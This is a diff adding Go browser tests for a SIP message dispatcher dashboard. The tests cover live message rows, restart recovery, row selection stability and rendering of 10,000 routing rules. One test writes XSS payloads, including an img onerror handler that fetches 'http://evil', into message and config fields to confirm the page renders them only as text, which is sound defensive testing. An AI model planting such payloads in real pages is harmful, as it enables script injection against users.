@@ -1,0 +1,152 @@
+package browser
+
+import (
+	"bytes"
+	"fmt"
+	"strings"
+	"testing"
+)
+
+// protobufNamed returns the wire form of a sample.
+func (d *dispatcher) protobufNamed(t *testing.T, name string) []byte {
+	t.Helper()
+	for _, s := range d.samples(t, "") {
+		if s.Name == name {
+			return s.Protobuf
+		}
+	}
+	t.Fatalf("no sample is named %s", name)
+	return nil
+}
+
+// renamed is a message with another Call-ID of the same length: its bytes stay a message.
+func renamed(message []byte, old, with string) []byte {
+	return bytes.ReplaceAll(message, []byte(old), []byte((with + strings.Repeat("0", len(old)))[:len(old)]))
+}
+
+// rowTexts are the rows that are in the page.
+func (p *page) rowTexts() []string {
+	return eval[[]string](p, `[...document.querySelectorAll(".rows .body [role=row]")]
+		.sort((a, b) => a.ariaRowIndex - b.ariaRowIndex).map(r => r.innerText)`)
+}
+
+// TestAMessageAppears sends messages while the page looks on, also to a dispatcher that was started again.
+func TestAMessageAppears(t *testing.T) {
+	d := office(t)
+	p := open(t, d.url("/decisions?tab=messages"), 1280, 900)
+	p.shows("Nothing has come in yet")
+	p.shows("▶ live")
+	invite := d.protobufNamed(t, "invite-sdp")
+	d.sendBytes(t, invite)
+	p.until("one row", func() bool { return len(p.rowTexts()) == 1 })
+	d.sendBytes(t, renamed(invite, theCall, "second"))
+	p.until("a second row", func() bool { return len(p.rowTexts()) == 2 })
+
+	again := d.addr
+	d.stop(t)
+	p.shows("reconnecting")
+	d.write(t, strings.Replace(phones("127.0.0.1:1"), "127.0.0.1:0", again, 1))
+	d.start(t, []string{"serve", "--config", d.file}, nil)
+	p.shows("The dispatcher was started again", "▶ live")
+	d.sendBytes(t, renamed(invite, theCall, "third"))
+	p.until("a row behind the gap", func() bool {
+		rows := p.rowTexts()
+		return len(rows) == 4 && strings.Contains(rows[1], "started again")
+	})
+	p.clean()
+}
+
+// TestWhatIsReadStaysPut selects a row, and looks where it is while others arrive.
+func TestWhatIsReadStaysPut(t *testing.T) {
+	d := office(t)
+	invite := d.protobufNamed(t, "invite-sdp")
+	for n := range 30 {
+		d.sendBytes(t, renamed(invite, theCall, fmt.Sprintf("before-%02d-", n)))
+	}
+	p := open(t, d.url("/decisions?tab=messages"), 1280, 900)
+	p.shows("▶ live")
+	p.until("rows", func() bool { return len(p.rowTexts()) > 10 })
+	p.find("grid", "Messages").focus()
+	p.press("ArrowDown")
+	p.press("ArrowDown")
+	p.press("ArrowDown")
+	const place = `(() => { const r = document.querySelector(".rows [aria-selected=true]"); ` +
+		`return r === null ? "none" : r.getBoundingClientRect().top + " " + r.innerText })()`
+	p.find("tab", "why")
+	before := eval[string](p, place)
+	for n := range 25 {
+		d.sendBytes(t, renamed(invite, theCall, fmt.Sprintf("behind-%02d-", n)))
+	}
+	p.find("button", "25 newer")
+	if now := eval[string](p, place); now != before {
+		t.Errorf("the selected row was at %q and is at %q", before, now)
+	}
+	p.press(".")
+	p.gone("button", "newer")
+	p.clean()
+}
+
+// TestWhatSomebodySentIsText puts what a page could obey into every text of a message.
+func TestWhatSomebodySentIsText(t *testing.T) {
+	d := serve(t, strings.Replace(phones("127.0.0.1:1"), "ref: connect", "ref: \"<img src=x onerror=alert(1)>\"", 1))
+	hostile := `<img src=x onerror=fetch("http://evil")>` + "\u202e" + strings.Repeat("A", 300)
+	uri := `{"user":%[1]s,"host":%[1]s}`
+	message := fmt.Sprintf(`{"ref":%[1]s,"method":"INVITE","edgePortRef":%[1]s,"message":{"requestUri":`+uri+
+		`,"from":{"address":{"uri":`+uri+`,"displayName":%[1]s}},"to":{"address":{"uri":`+uri+
+		`}},"extensions":[{"name":%[1]s,"value":%[1]s}],"body":%[1]s}}`, quote(hostile))
+	const door = "/fonoster.routr.processor.v2beta1.Processor/ProcessMessage"
+	if d.post(t, door, []byte(message), nil) == 200 {
+		t.Error("the processor isn't there, and took it")
+	}
+	p := open(t, d.url("/decisions?tab=messages"), 1280, 900)
+	p.until("the row", func() bool { return len(p.rowTexts()) == 1 })
+	if n := eval[int](p, `document.querySelectorAll("img, script:not([src])").length`); n != 0 {
+		t.Errorf("%d elements were made of text", n)
+	}
+	p.find("grid", "Messages").focus()
+	p.press("ArrowDown")
+	p.shows("<img src=x")
+	p.press("m")
+	p.shows("A")
+	for _, screen := range []string{"/decisions", "/routes", "/backends", "/", "/config"} {
+		p.goTo(screen)
+		p.until("the screen "+screen, func() bool { return len(p.all("main", "")) == 1 })
+		if screen != "/config" { // its text is in an editor
+			p.shows("<img src=x")
+		}
+		if n := eval[int](p, `document.querySelectorAll("img").length`); n != 0 {
+			t.Errorf("%s: %d elements were made of text", screen, n)
+		}
+		if wide := eval[bool](p, `document.documentElement.scrollWidth > innerWidth`); wide {
+			t.Errorf("%s can be scrolled sideways", screen)
+		}
+	}
+	p.clean()
+}
+
+// TestManyRulesAreFewRows serves ten thousand rules: the page has at most sixty rows, and their true places.
+func TestManyRulesAreFewRows(t *testing.T) {
+	var config strings.Builder
+	config.WriteString("kind: MessageDispatcher\napiVersion: v2beta1\nref: many\n" +
+		"spec:\n  bindAddr: 127.0.0.1:0\n  processors:\n")
+	for n := range 10_000 {
+		fmt.Fprintf(&config, "    - {ref: tenant-%05d, addr: 127.0.0.1:1, methods: [INVITE], "+
+			"matchFunc: 'req => req.message.from.address.uri.host === \"t%d.example.com\"'}\n", n, n)
+	}
+	d := serve(t, config.String())
+	p := open(t, d.url("/routes"), 1280, 900)
+	p.shows("10\u202f000 rules", "tenant-00000")
+	count := func() int { return eval[int](p, `document.querySelectorAll("[role=row]").length`) }
+	p.find("grid", "Rules").focus()
+	p.press("End")
+	p.shows("tenant-09999")
+	if n := count(); n > 61 {
+		t.Errorf("%d rows are in the page", n)
+	}
+	p.find("textbox", "Filter rules").enter("tenant-04321")
+	p.until("one rule", func() bool { return len(p.rowTexts()) == 1 })
+	if row := p.rowTexts()[0]; !strings.Contains(row, "4\u202f322") {
+		t.Errorf("its place isn't 4322: %q", row)
+	}
+	p.clean()
+}
